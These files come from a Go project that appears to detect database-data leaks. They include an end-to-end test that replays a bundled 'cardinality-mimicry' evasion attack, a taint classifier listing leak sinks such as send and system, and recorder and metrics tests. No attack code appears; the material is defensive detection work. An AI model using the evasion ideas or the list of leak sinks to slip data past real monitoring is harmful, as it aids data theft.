	$(GO) test -run '^$$' -bench . -benchmem -count 3 ./internal/sqlchan >> BENCH_runtime.txt
	cat BENCH_runtime.txt
	$(GO) run ./cmd/benchjson -o BENCH_runtime.json < BENCH_runtime.txt

# bench-smoke is the CI regression gate: rerun only the hmm scorer and shed
# admission microbenches and fail when any of them is >20% slower (min-of-3
# ns/op) than the committed BENCH_runtime.json baseline. Cheap enough to run
# on every push; `make bench` refreshes the baseline after an intentional
# change. The second step prices decision tracing end to end on the 64-stream
# runtime replay and fails when its min-of-3 throughput cost exceeds the 5%
# acceptance budget (or the bench itself regresses >20% ns/op vs baseline).
bench-smoke:
	$(GO) test -run '^$$' -bench '$(SMOKE_BENCHES)' -count 3 ./internal/hmm ./internal/shed ./internal/tenant ./internal/ingest ./internal/sqlchan | \
		$(GO) run ./cmd/benchjson -baseline BENCH_runtime.json -tolerance 0.20 -filter 'ScorerLogProb|StreamPush|ShedDecide|TenantRoute|IngestDecode|SQLChanObserve'
	$(GO) test -run '^$$' -bench 'BenchmarkTracingOverhead' -benchtime 1x -count 3 . | \
		$(GO) run ./cmd/benchjson -baseline BENCH_runtime.json -tolerance 0.20 -filter 'TracingOverhead' -metric-max 'TracingOverhead:overhead_pct=5'

serve-demo:
	$(GO) run ./cmd/adprom serve -app apph -streams 64 -workers 4
