package adprom

import (
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"reflect"
	"strings"
	"testing"
	"time"

	"adprom/internal/detect"
)

// TestFleetSQLChannelEndToEnd drives the full two-channel serving path over
// the wire: a two-tenant fleet behind a real TCP NDJSON ingest listener,
// where tenant bank-a runs the fused HMM+SQL judge and tenant bank-b stays
// single-channel. A cardinality-mimicry session — query text and call trace
// both indistinguishable from training — streams into bank-a and must be
// flagged via the SQL channel; bank-b's healthy traffic must produce a
// decision log bit-identical to a standalone single-channel runtime fed the
// same events; and the per-tenant channel-provenance counters must appear on
// the fleet's /metrics endpoint.
func TestFleetSQLChannelEndToEnd(t *testing.T) {
	app := BankingApp()
	traces, err := app.CollectTraces(ModeADPROM)
	if err != nil {
		t.Fatal(err)
	}
	prof, _, err := Train(app.Prog, traces, TrainOptions{Train: HMMOptions{MaxIters: 4}})
	if err != nil {
		t.Fatal(err)
	}
	sqlProf, err := TrainSQLProfile(traces, SQLOptions{SensitiveColumns: []string{"name", "balance"}})
	if err != nil {
		t.Fatal(err)
	}

	var mimicry Attack
	for _, a := range SQLChannelBankingAttacks() {
		if a.Name == "cardinality-mimicry" {
			mimicry = a
		}
	}
	if mimicry.Name == "" {
		t.Fatal("cardinality-mimicry attack not bundled")
	}
	prog, err := mimicry.Apply(app.Prog)
	if err != nil {
		t.Fatal(err)
	}
	mimicTrace, err := app.RunCase(prog, mimicry.Cases[0], ModeADPROM, mimicry.Setup)
	if err != nil {
		t.Fatal(err)
	}

	fleet, err := NewFleet(
		WithTenant("bank-a", prof),
		WithTenant("bank-b", prof),
		WithTenantOverride("bank-a", WithSQLChannel(sqlProf), WithFusion(FusionConfig{})),
	)
	if err != nil {
		t.Fatal(err)
	}
	defer fleet.Close()

	srv, err := NewIngestServer(fleet, IngestNDJSON, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Close()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	go func() { _ = srv.Serve(ln) }()

	// One observe+flush pair per trace mirrors ObserveTrace's per-execution
	// window semantics over the wire (flush judges the partial window and
	// resets it).
	healthy := traces[:8]
	var wire []byte
	appendTrace := func(tenant, session string, tr Trace) {
		var err error
		wire, err = EncodeIngestNDJSON(wire, IngestEvent{
			Tenant: tenant, Session: session, Kind: IngestObserve, Calls: tr,
		})
		if err != nil {
			t.Fatal(err)
		}
		if wire, err = EncodeIngestNDJSON(wire, IngestEvent{
			Tenant: tenant, Session: session, Kind: IngestFlush,
		}); err != nil {
			t.Fatal(err)
		}
	}
	for _, tr := range healthy {
		appendTrace("bank-b", "healthy-1", tr)
	}
	appendTrace("bank-a", "mimic-1", mimicTrace)

	conn, err := net.Dial("tcp", ln.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	if _, err := conn.Write(wire); err != nil {
		t.Fatal(err)
	}
	conn.Close()

	var wantCalls uint64
	for _, tr := range healthy {
		wantCalls += uint64(len(tr))
	}
	waitFor(t, "ingest drained", func() bool {
		a, okA := fleet.TenantStats("bank-a")
		b, okB := fleet.TenantStats("bank-b")
		return okA && okB &&
			a.Runtime.Calls == uint64(len(mimicTrace)) && b.Runtime.Calls == wantCalls
	})

	// The mimicry session is invisible to the HMM — only the SQL channel's
	// cardinality profile can flag it, so the alert provenance must say so.
	aStats, _ := fleet.TenantStats("bank-a")
	var aAlerts uint64
	for _, n := range aStats.Runtime.Alerts {
		aAlerts += n
	}
	if aAlerts == 0 {
		t.Fatal("mimicry session raised no alert on the fused tenant")
	}
	sqlIdx, hmmIdx := detect.ChannelIndex(ChannelSQL), detect.ChannelIndex(ChannelHMM)
	if aStats.Runtime.ChannelAlerts[sqlIdx] == 0 {
		t.Fatalf("no SQL-channel provenance on bank-a: %+v", aStats.Runtime.ChannelAlerts)
	}
	if aStats.Runtime.ChannelAlerts[hmmIdx] != 0 {
		t.Fatalf("HMM channel claimed the mimicry alert: %+v", aStats.Runtime.ChannelAlerts)
	}
	sawSQL := false
	for _, d := range fleet.Decisions("bank-a", 100) {
		for _, ch := range d.Channels {
			if ch == ChannelSQL {
				sawSQL = true
				if d.SQLScore >= d.SQLThreshold {
					t.Errorf("sql-flagged decision not below threshold: %+v", d)
				}
			}
		}
	}
	if !sawSQL {
		t.Fatal("no bank-a decision names the sql channel")
	}

	// The healthy single-channel tenant must be bit-identical to a standalone
	// runtime fed exactly the same events: zero alerts, and the same decision
	// log (timestamps aside).
	bStats, _ := fleet.TenantStats("bank-b")
	for flag, n := range bStats.Runtime.Alerts {
		if n != 0 {
			t.Fatalf("healthy tenant raised %d alerts (flag %d)", n, flag)
		}
	}
	ref := NewRuntime(prof)
	defer ref.Close()
	s := ref.Session("healthy-1")
	for _, tr := range healthy {
		if err := s.ObserveBatch(tr); err != nil {
			t.Fatal(err)
		}
		if _, err := s.Flush(); err != nil {
			t.Fatal(err)
		}
	}
	got := fleet.Decisions("bank-b", 1000)
	want := ref.Decisions(1000)
	for i := range got {
		got[i].UnixNanos = 0
	}
	for i := range want {
		want[i].UnixNanos = 0
	}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("healthy tenant decisions diverge from single-channel runtime:\nfleet: %+v\nref:   %+v", got, want)
	}

	// Channel provenance must be scrapeable per tenant.
	h := httptest.NewServer(NewFleetIntrospectionHandler(fleet, srv))
	defer h.Close()
	resp, err := http.Get(h.URL + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	body, err := io.ReadAll(resp.Body)
	resp.Body.Close()
	if err != nil {
		t.Fatal(err)
	}
	metrics := string(body)
	for _, want := range []string{
		"# TYPE adprom_tenant_channel_alerts_total counter",
		`adprom_tenant_channel_alerts_total{tenant="bank-a",channel="sql"} 1`,
		`adprom_tenant_channel_alerts_total{tenant="bank-b",channel="sql"} 0`,
	} {
		if !strings.Contains(metrics, want) {
			t.Errorf("/metrics missing %q", want)
		}
	}
}

// waitFor polls cond until it holds or the deadline passes.
func waitFor(t *testing.T, what string, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(10 * time.Second)
	for time.Now().Before(deadline) {
		if cond() {
			return
		}
		time.Sleep(5 * time.Millisecond)
	}
	t.Fatalf("timeout waiting for %s", what)
}
