package callspec

import "testing"

func TestClassification(t *testing.T) {
	for _, name := range []string{"PQexec", "mysql_query", "mysql_store_result"} {
		if !IsSource(name) {
			t.Errorf("%s not a source", name)
		}
	}
	for _, name := range []string{"PQgetvalue", "mysql_fetch_row", "strcat", "sprintf", "atoi"} {
		if !IsDeriver(name) {
			t.Errorf("%s not a deriver", name)
		}
	}
	for _, name := range []string{"printf", "fprintf", "fwrite", "write", "send", "system", "fputs", "fputc", "puts", "snprintf"} {
		if !IsOutput(name) {
			t.Errorf("%s not an output", name)
		}
	}
	for _, name := range []string{"scanf", "malloc", "fopen", "regcomp"} {
		if IsSource(name) || IsOutput(name) {
			t.Errorf("%s misclassified", name)
		}
	}
	// sprintf is both a deriver and an output: it launders TD into a string
	// and the paper lists it among the output statements.
	if !IsDeriver("sprintf") || !IsOutput("sprintf") {
		t.Error("sprintf must be deriver and output")
	}
}

func TestQLabel(t *testing.T) {
	cases := []struct {
		name string
		bid  int
		want string
	}{
		{"printf", 6, "printf_Q6"},
		{"fprintf", 0, "fprintf_Q0"},
		{"write", 123, "write_Q123"},
		{"puts", -1, "puts_Q-1"},
	}
	for _, tc := range cases {
		if got := QLabel(tc.name, tc.bid); got != tc.want {
			t.Errorf("QLabel(%q, %d) = %q, want %q", tc.name, tc.bid, got, tc.want)
		}
	}
}
