// Package callspec classifies library-call names by their role in AD-PROM's
// data-flow analysis.
//
// The classification is shared between the static analysis (internal/ddg),
// which labels output statements that are data-dependent on query results,
// and the interpreter's dynamic taint tracker (internal/interp), which labels
// the corresponding run-time events. Keeping one source of truth guarantees
// the static CTM labels and the dynamic trace labels agree — the property the
// paper's Figure 9 depends on.
package callspec

// sources introduce targeted data (TD): their return value is a result
// handle backed by rows retrieved from the database. mysql_query is included
// because it binds the pending result to the connection even though its
// direct return value is only a status code.
var sources = map[string]bool{
	"PQexec":             true,
	"mysql_query":        true,
	"mysql_store_result": true,
}

// derivers propagate taint from any argument to the return value: accessors
// on result handles and the pure string/number helpers the client programs
// funnel TD through.
var derivers = map[string]bool{
	"PQgetvalue":       true,
	"PQntuples":        true,
	"PQnfields":        true,
	"mysql_fetch_row":  true,
	"mysql_num_rows":   true,
	"mysql_num_fields": true,
	"strcpy":           true,
	"strcat":           true,
	"strlen":           true,
	"strcmp":           true,
	"atoi":             true,
	"itoa":             true,
	"sprintf":          true,
	"snprintf":         true,
	"memcpy":           true,
	"fgets":            true,
	"strncpy":          true,
	"strstr":           true,
	"strchr":           true,
	"toupper":          true,
	"tolower":          true,
	"abs":              true,
}

// outputs are the statements the paper enumerates as capable of leaking TD to
// a screen, file, or peer (§IV-A, §VII): they are labelled name_Q[bid] when an
// argument carries TD.
var outputs = map[string]bool{
	"printf":   true,
	"fprintf":  true,
	"sprintf":  true,
	"snprintf": true,
	"fputc":    true,
	"fputs":    true,
	"puts":     true,
	"write":    true,
	"fwrite":   true,
	"send":     true,
	"system":   true,
}

// IsSource reports whether name introduces TD from the database.
func IsSource(name string) bool { return sources[name] }

// IsDeriver reports whether name propagates taint from arguments to result.
func IsDeriver(name string) bool { return derivers[name] }

// IsOutput reports whether name is an output statement in the paper's sense.
func IsOutput(name string) bool { return outputs[name] }

// QLabel returns the data-leak label for an output call in block bid:
// "printf" in block 6 becomes "printf_Q6" (paper §IV-C1, Figure 9).
func QLabel(name string, bid int) string {
	// Hand-rolled to avoid fmt in this hot path: labels are computed per
	// trace event.
	return name + "_Q" + itoa(bid)
}

func itoa(n int) string {
	if n == 0 {
		return "0"
	}
	neg := n < 0
	if neg {
		n = -n
	}
	var buf [20]byte
	i := len(buf)
	for n > 0 {
		i--
		buf[i] = byte('0' + n%10)
		n /= 10
	}
	if neg {
		i--
		buf[i] = '-'
	}
	return string(buf[i:])
}
