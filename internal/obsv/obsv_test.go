package obsv

import (
	"fmt"
	"sync"
	"testing"
)

func TestRecorderDisabled(t *testing.T) {
	var nilRec *Recorder
	if nilRec.Enabled() {
		t.Error("nil recorder must report disabled")
	}
	if nilRec.Decisions(10) != nil {
		t.Error("nil recorder must return no decisions")
	}

	r := NewRecorder(0, 1)
	if r.Enabled() {
		t.Error("capacity 0 must disable recording")
	}
	if r.Record(Decision{Flagged: true}) {
		t.Error("disabled recorder must not keep decisions")
	}
	if r.Recorded() != 0 {
		t.Error("disabled recorder must count nothing")
	}
}

func TestRecorderKeepsEveryAlert(t *testing.T) {
	r := NewRecorder(8, 100) // aggressive sampling, but alerts bypass the gate
	for i := 0; i < 5; i++ {
		if !r.Record(Decision{Session: "s", Seq: i, Flagged: true, Flag: "DL"}) {
			t.Fatalf("alert %d was sampled out", i)
		}
	}
	if got := r.Recorded(); got != 5 {
		t.Errorf("recorded = %d, want 5", got)
	}
	ds := r.Decisions(0)
	if len(ds) != 5 {
		t.Fatalf("retained %d decisions, want 5", len(ds))
	}
	// Newest first.
	for i, d := range ds {
		if want := 4 - i; d.Seq != want {
			t.Errorf("decision %d has seq %d, want %d", i, d.Seq, want)
		}
	}
}

func TestRecorderSamplesUnflagged(t *testing.T) {
	const every = 16
	r := NewRecorder(1024, every)
	for i := 0; i < 160; i++ {
		r.Record(Decision{Seq: i})
	}
	if got := r.Recorded(); got != 160/every {
		t.Errorf("recorded = %d, want %d", got, 160/every)
	}
	if got := r.Skipped(); got != 160-160/every {
		t.Errorf("skipped = %d, want %d", got, 160-160/every)
	}

	// sampleEvery ≤ 1 keeps everything.
	all := NewRecorder(1024, 1)
	for i := 0; i < 10; i++ {
		if !all.Record(Decision{Seq: i}) {
			t.Fatalf("sampleEvery=1 dropped decision %d", i)
		}
	}
}

func TestRecorderRingOverwritesOldest(t *testing.T) {
	r := NewRecorder(4, 1)
	for i := 0; i < 10; i++ {
		r.Record(Decision{Seq: i})
	}
	ds := r.Decisions(0)
	if len(ds) != 4 {
		t.Fatalf("retained %d decisions, want capacity 4", len(ds))
	}
	for i, d := range ds {
		if want := 9 - i; d.Seq != want {
			t.Errorf("decision %d has seq %d, want %d", i, d.Seq, want)
		}
	}
	// A limit below retention truncates from the newest end.
	if got := r.Decisions(2); len(got) != 2 || got[0].Seq != 9 || got[1].Seq != 8 {
		t.Errorf("Decisions(2) = %+v, want seqs [9 8]", got)
	}
	// A limit above retention returns what exists.
	if got := r.Decisions(100); len(got) != 4 {
		t.Errorf("Decisions(100) returned %d, want 4", len(got))
	}
}

func TestRecorderConcurrent(t *testing.T) {
	r := NewRecorder(256, 4)
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < 1000; i++ {
				r.Record(Decision{
					Session: fmt.Sprintf("s%d", g),
					Seq:     i,
					Flagged: i%10 == 0,
				})
			}
		}(g)
	}
	wg.Wait()
	// 8000 decisions: 800 alerts always kept; 7200 unflagged through a 1-in-4
	// gate. The gate is a shared counter, so exactly a quarter of the
	// unflagged adds fire.
	recorded, skipped := r.Recorded(), r.Skipped()
	if recorded+skipped != 8000 {
		t.Errorf("recorded %d + skipped %d = %d, want 8000", recorded, skipped, recorded+skipped)
	}
	if recorded < 800 {
		t.Errorf("recorded %d < 800 alerts that must all be kept", recorded)
	}
	if len(r.Decisions(0)) != 256 {
		t.Errorf("ring retained %d, want full capacity 256", len(r.Decisions(0)))
	}
}
