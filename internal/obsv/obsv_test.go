package obsv

import (
	"fmt"
	"sync"
	"testing"
)

func TestRecorderDisabled(t *testing.T) {
	var nilRec *Recorder
	if nilRec.Enabled() {
		t.Error("nil recorder must report disabled")
	}
	if nilRec.Decisions(10) != nil {
		t.Error("nil recorder must return no decisions")
	}

	r := NewRecorder(0, 1)
	if r.Enabled() {
		t.Error("capacity 0 must disable recording")
	}
	if r.Record(Decision{Flagged: true}) {
		t.Error("disabled recorder must not keep decisions")
	}
	if r.Recorded() != 0 {
		t.Error("disabled recorder must count nothing")
	}
}

func TestRecorderKeepsEveryAlert(t *testing.T) {
	r := NewRecorder(8, 100) // aggressive sampling, but alerts bypass the gate
	for i := 0; i < 5; i++ {
		if !r.Record(Decision{Session: "s", Seq: i, Flagged: true, Flag: "DL"}) {
			t.Fatalf("alert %d was sampled out", i)
		}
	}
	if got := r.Recorded(); got != 5 {
		t.Errorf("recorded = %d, want 5", got)
	}
	ds := r.Decisions(0)
	if len(ds) != 5 {
		t.Fatalf("retained %d decisions, want 5", len(ds))
	}
	// Newest first.
	for i, d := range ds {
		if want := 4 - i; d.Seq != want {
			t.Errorf("decision %d has seq %d, want %d", i, d.Seq, want)
		}
	}
}

func TestRecorderSamplesUnflagged(t *testing.T) {
	const every = 16
	r := NewRecorder(1024, every)
	for i := 0; i < 160; i++ {
		r.Record(Decision{Seq: i})
	}
	if got := r.Recorded(); got != 160/every {
		t.Errorf("recorded = %d, want %d", got, 160/every)
	}
	if got := r.Skipped(); got != 160-160/every {
		t.Errorf("skipped = %d, want %d", got, 160-160/every)
	}

	// sampleEvery ≤ 1 keeps everything.
	all := NewRecorder(1024, 1)
	for i := 0; i < 10; i++ {
		if !all.Record(Decision{Seq: i}) {
			t.Fatalf("sampleEvery=1 dropped decision %d", i)
		}
	}
}

func TestRecorderRingOverwritesOldest(t *testing.T) {
	r := NewRecorder(4, 1)
	for i := 0; i < 10; i++ {
		r.Record(Decision{Seq: i})
	}
	ds := r.Decisions(0)
	if len(ds) != 4 {
		t.Fatalf("retained %d decisions, want capacity 4", len(ds))
	}
	for i, d := range ds {
		if want := 9 - i; d.Seq != want {
			t.Errorf("decision %d has seq %d, want %d", i, d.Seq, want)
		}
	}
	// A limit below retention truncates from the newest end.
	if got := r.Decisions(2); len(got) != 2 || got[0].Seq != 9 || got[1].Seq != 8 {
		t.Errorf("Decisions(2) = %+v, want seqs [9 8]", got)
	}
	// A limit above retention returns what exists.
	if got := r.Decisions(100); len(got) != 4 {
		t.Errorf("Decisions(100) returned %d, want 4", len(got))
	}
}

// TestRecorderKeepAlertsPropertyConcurrent drives the ring with concurrent
// writers and checks the two documented properties hold under contention
// (run it with -race):
//
//  1. Keep-alerts eviction: while the ring holds any unflagged decision, a
//     flagged one is never evicted. The workload writes fewer alerts than
//     the ring's capacity, so every single alert — from every session —
//     must survive, even though an order of magnitude more unflagged
//     decisions were committed after them and churned through the ring.
//  2. Sampling ratio: the 1-in-N gate is one shared atomic counter, so
//     across any interleaving exactly ⌊U/N⌋±1 of U unflagged judgements
//     are kept and the rest are counted as skipped.
//
// A second, deterministic phase then floods the ring with alerts alone to
// pin down the only legal flagged-eviction mode: once the whole ring is
// alerts, the cursor round-robins and older alerts yield to newer ones.
func TestRecorderKeepAlertsPropertyConcurrent(t *testing.T) {
	const (
		capacity  = 128
		every     = 4
		writers   = 8
		perWriter = 512
		flagEvery = 64 // writers*perWriter/flagEvery = 64 alerts < capacity
	)
	r := NewRecorder(capacity, every)
	var wg sync.WaitGroup
	for g := 0; g < writers; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < perWriter; i++ {
				r.Record(Decision{
					Session: fmt.Sprintf("w%d", g),
					Seq:     i,
					Flagged: i%flagEvery == flagEvery-1,
				})
			}
		}(g)
	}
	wg.Wait()

	const (
		total        = writers * perWriter
		flaggedTotal = writers * (perWriter / flagEvery)
		unflagged    = total - flaggedTotal
	)

	// Every judgement was either committed or counted as sampled out.
	recorded, skipped := int(r.Recorded()), int(r.Skipped())
	if recorded+skipped != total {
		t.Errorf("recorded %d + skipped %d = %d, want %d", recorded, skipped, recorded+skipped, total)
	}

	// Property 2 — the shared gate keeps exactly one in `every` unflagged
	// judgements, ±1 for where the counter started relative to the modulus.
	keptUnflagged := recorded - flaggedTotal
	if want := unflagged / every; keptUnflagged < want-1 || keptUnflagged > want+1 {
		t.Errorf("kept %d unflagged decisions, want %d±1 (gate is exact under contention)", keptUnflagged, want)
	}

	// Property 1 — with flaggedTotal < capacity the ring is never all-alerts,
	// so no alert may ever have been evicted: all 64 must be retained, while
	// the ~900 kept unflagged decisions fought over the remaining slots.
	ds := r.Decisions(0)
	if len(ds) != capacity {
		t.Fatalf("ring retained %d decisions, want full capacity %d", len(ds), capacity)
	}
	surviving := map[string]bool{}
	unflaggedSurvivors := 0
	for _, d := range ds {
		if d.Flagged {
			surviving[fmt.Sprintf("%s/%d", d.Session, d.Seq)] = true
		} else {
			unflaggedSurvivors++
		}
	}
	for g := 0; g < writers; g++ {
		for i := flagEvery - 1; i < perWriter; i += flagEvery {
			if key := fmt.Sprintf("w%d/%d", g, i); !surviving[key] {
				t.Errorf("alert %s was evicted while %d same-run unflagged decisions survive", key, unflaggedSurvivors)
			}
		}
	}
	if unflaggedSurvivors != capacity-flaggedTotal {
		t.Errorf("%d unflagged survivors, want %d (capacity minus the retained alerts)", unflaggedSurvivors, capacity-flaggedTotal)
	}

	// Phase 2 — the only way to evict an alert: newer alerts once the ring is
	// all-flagged. 2×capacity alert-only writes first displace the unflagged
	// survivors, then cycle every slot, so the final ring is exactly the
	// newest `capacity` flood alerts.
	for i := 0; i < 2*capacity; i++ {
		r.Record(Decision{Session: "flood", Seq: 1_000_000 + i, Flagged: true})
	}
	ds = r.Decisions(0)
	if len(ds) != capacity {
		t.Fatalf("post-flood ring retained %d, want %d", len(ds), capacity)
	}
	for _, d := range ds {
		if !d.Flagged || d.Session != "flood" {
			t.Fatalf("post-flood ring kept %s/%d flagged=%v; an all-alert flood must leave only flood alerts", d.Session, d.Seq, d.Flagged)
		}
		if d.Seq < 1_000_000+capacity {
			t.Errorf("flood alert seq %d survived; the round-robin cursor should keep only the newest %d", d.Seq, capacity)
		}
	}
}

func TestRecorderConcurrent(t *testing.T) {
	r := NewRecorder(256, 4)
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < 1000; i++ {
				r.Record(Decision{
					Session: fmt.Sprintf("s%d", g),
					Seq:     i,
					Flagged: i%10 == 0,
				})
			}
		}(g)
	}
	wg.Wait()
	// 8000 decisions: 800 alerts always kept; 7200 unflagged through a 1-in-4
	// gate. The gate is a shared counter, so exactly a quarter of the
	// unflagged adds fire.
	recorded, skipped := r.Recorded(), r.Skipped()
	if recorded+skipped != 8000 {
		t.Errorf("recorded %d + skipped %d = %d, want 8000", recorded, skipped, recorded+skipped)
	}
	if recorded < 800 {
		t.Errorf("recorded %d < 800 alerts that must all be kept", recorded)
	}
	if len(r.Decisions(0)) != 256 {
		t.Errorf("ring retained %d, want full capacity 256", len(r.Decisions(0)))
	}
}
