package obsv

import (
	"io"
	"math"
	"runtime"
	"runtime/debug"
	runtimemetrics "runtime/metrics"
	"strconv"
)

// goRuntimeSamples maps every adprom_go_* exposition family to the
// runtime/metrics sample that backs it. The map is the contract the
// bidirectional guard test enforces: a family rendered below without an
// entry here fails CI, a stale entry for a family no longer rendered fails
// it too, and every runtime/metrics name is checked against the running
// toolchain's metrics.All() so a Go upgrade that renames a metric is caught
// instead of silently exporting zeros.
var goRuntimeSamples = map[string]string{
	"adprom_go_goroutines":       "/sched/goroutines:goroutines",
	"adprom_go_heap_live_bytes":  "/memory/classes/heap/objects:bytes",
	"adprom_go_gc_pause_seconds": "/sched/pauses/total/gc:seconds",
}

// gcPauseQuantiles are the summary quantiles exported for GC pauses.
var gcPauseQuantiles = []float64{0.5, 0.9, 0.99}

// BuildInfo labels the adprom_build_info gauge: the module version (resolved
// from debug.ReadBuildInfo when empty) and the scoring-kernel dispatch the
// CPU feature detection selected (hmm.KernelName()).
type BuildInfo struct {
	Version        string
	ScorerDispatch string
}

// WriteGoRuntimeProm renders the serving process's Go runtime health —
// goroutine count, live heap bytes, GC pause quantiles — plus the
// adprom_build_info provenance gauge. Process-wide, so multi-runtime
// surfaces (the fleet router) must render it exactly once per scrape.
func WriteGoRuntimeProm(w io.Writer, info BuildInfo) error {
	samples := []runtimemetrics.Sample{
		{Name: goRuntimeSamples["adprom_go_goroutines"]},
		{Name: goRuntimeSamples["adprom_go_heap_live_bytes"]},
		{Name: goRuntimeSamples["adprom_go_gc_pause_seconds"]},
	}
	runtimemetrics.Read(samples)

	p := NewPromWriter(w)
	p.Gauge("adprom_go_goroutines", "Live goroutines in the serving process.", uintSample(samples[0]))
	p.Gauge("adprom_go_heap_live_bytes", "Bytes of live heap objects after the last GC mark.", uintSample(samples[1]))

	p.Family("adprom_go_gc_pause_seconds", "summary", "Stop-the-world GC pause durations over the process lifetime.")
	var count uint64
	if samples[2].Value.Kind() == runtimemetrics.KindFloat64Histogram {
		h := samples[2].Value.Float64Histogram()
		for _, c := range h.Counts {
			count += c
		}
		for _, q := range gcPauseQuantiles {
			p.Sample("adprom_go_gc_pause_seconds",
				[][2]string{{"quantile", strconv.FormatFloat(q, 'g', -1, 64)}},
				histQuantile(h, q))
		}
	}
	p.Sample("adprom_go_gc_pause_seconds_count", nil, float64(count))

	version := info.Version
	if version == "" {
		version = buildVersion()
	}
	p.Family("adprom_build_info", "gauge", "Build provenance; always 1, labels carry the facts.")
	p.Sample("adprom_build_info", [][2]string{
		{"version", version},
		{"go_version", runtime.Version()},
		{"scorer_dispatch", info.ScorerDispatch},
	}, 1)
	return p.Err()
}

func uintSample(s runtimemetrics.Sample) float64 {
	if s.Value.Kind() != runtimemetrics.KindUint64 {
		return 0
	}
	return float64(s.Value.Uint64())
}

// histQuantile returns the upper bound of the bucket containing the q-th
// quantile of a runtime/metrics histogram — the same upper-bound convention
// Prometheus histogram_quantile uses. Infinite edge buckets fall back to
// their finite neighbour so the exposition never emits +Inf as a quantile.
func histQuantile(h *runtimemetrics.Float64Histogram, q float64) float64 {
	var total uint64
	for _, c := range h.Counts {
		total += c
	}
	if total == 0 {
		return 0
	}
	target := uint64(q * float64(total))
	var cum uint64
	for i, c := range h.Counts {
		cum += c
		if cum > target {
			// Counts[i] spans Buckets[i] .. Buckets[i+1].
			hi := h.Buckets[i+1]
			if math.IsInf(hi, 1) {
				return h.Buckets[i]
			}
			return hi
		}
	}
	return h.Buckets[len(h.Buckets)-1]
}

// buildVersion resolves the module version stamped into the binary: the VCS
// revision (short) when building from a checkout, else the module version,
// else "unknown" (e.g. some test binaries).
func buildVersion() string {
	bi, ok := debug.ReadBuildInfo()
	if !ok {
		return "unknown"
	}
	var rev string
	for _, s := range bi.Settings {
		if s.Key == "vcs.revision" {
			rev = s.Value
		}
	}
	if len(rev) > 12 {
		rev = rev[:12]
	}
	if rev != "" {
		return rev
	}
	if v := bi.Main.Version; v != "" {
		return v
	}
	return "unknown"
}
