package obsv

import (
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
)

func testServer(t *testing.T, cfg ServerConfig) *httptest.Server {
	t.Helper()
	srv := httptest.NewServer(NewHandler(cfg))
	t.Cleanup(srv.Close)
	return srv
}

func get(t *testing.T, url string) (int, string, http.Header) {
	t.Helper()
	resp, err := http.Get(url)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp.StatusCode, string(body), resp.Header
}

func TestHandlerMetrics(t *testing.T) {
	srv := testServer(t, ServerConfig{
		Metrics: func(w io.Writer) error {
			_, err := fmt.Fprintln(w, "# HELP adprom_calls_total x\n# TYPE adprom_calls_total counter\nadprom_calls_total 7")
			return err
		},
	})
	code, body, hdr := get(t, srv.URL+"/metrics")
	if code != http.StatusOK {
		t.Fatalf("status %d, want 200", code)
	}
	if ct := hdr.Get("Content-Type"); !strings.HasPrefix(ct, "text/plain; version=0.0.4") {
		t.Errorf("content type %q, want Prometheus text format", ct)
	}
	if !strings.Contains(body, "adprom_calls_total 7") {
		t.Errorf("body missing metric: %q", body)
	}
}

func TestHandlerDecisions(t *testing.T) {
	recorded := []Decision{
		{Session: "s2", Seq: 9, Flagged: true, Flag: "DL", Label: "write", Caller: "main"},
		{Session: "s1", Seq: 4, Flag: "Normal"},
	}
	srv := testServer(t, ServerConfig{
		Decisions: func(limit int) []Decision {
			if limit > 0 && limit < len(recorded) {
				return recorded[:limit]
			}
			return recorded
		},
	})

	code, body, hdr := get(t, srv.URL+"/decisions")
	if code != http.StatusOK {
		t.Fatalf("status %d, want 200", code)
	}
	if ct := hdr.Get("Content-Type"); ct != "application/json" {
		t.Errorf("content type %q, want application/json", ct)
	}
	var got []Decision
	if err := json.Unmarshal([]byte(body), &got); err != nil {
		t.Fatalf("body is not JSON: %v\n%s", err, body)
	}
	if len(got) != 2 || got[0].Session != "s2" || !got[0].Flagged || got[0].Caller != "main" {
		t.Errorf("decoded %+v, want the recorded decisions newest-first", got)
	}

	if code, body, _ = get(t, srv.URL+"/decisions?limit=1"); code != http.StatusOK {
		t.Fatalf("limit=1 status %d", code)
	}
	if err := json.Unmarshal([]byte(body), &got); err != nil || len(got) != 1 {
		t.Errorf("limit=1 returned %d decisions (err %v), want 1", len(got), err)
	}

	if code, _, _ = get(t, srv.URL+"/decisions?limit=bogus"); code != http.StatusBadRequest {
		t.Errorf("bad limit: status %d, want 400", code)
	}
}

func TestHandlerDecisionsEmptyIsJSONArray(t *testing.T) {
	srv := testServer(t, ServerConfig{Decisions: func(int) []Decision { return nil }})
	_, body, _ := get(t, srv.URL+"/decisions")
	if strings.TrimSpace(body) != "[]" {
		t.Errorf("empty decision log rendered %q, want []", body)
	}
}

func TestHandlerProbes(t *testing.T) {
	healthy := true
	srv := testServer(t, ServerConfig{
		Healthz: func() error { return nil },
		Readyz: func() error {
			if !healthy {
				return errors.New("no profile generation published")
			}
			return nil
		},
	})
	if code, body, _ := get(t, srv.URL+"/healthz"); code != http.StatusOK || strings.TrimSpace(body) != "ok" {
		t.Errorf("/healthz = %d %q, want 200 ok", code, body)
	}
	if code, _, _ := get(t, srv.URL+"/readyz"); code != http.StatusOK {
		t.Errorf("/readyz while ready = %d, want 200", code)
	}
	healthy = false
	code, body, _ := get(t, srv.URL+"/readyz")
	if code != http.StatusServiceUnavailable {
		t.Errorf("/readyz while unready = %d, want 503", code)
	}
	if !strings.Contains(body, "no profile generation published") {
		t.Errorf("/readyz body %q must carry the cause", body)
	}
}

func TestHandlerRouteIndexAndPprof(t *testing.T) {
	srv := testServer(t, ServerConfig{})
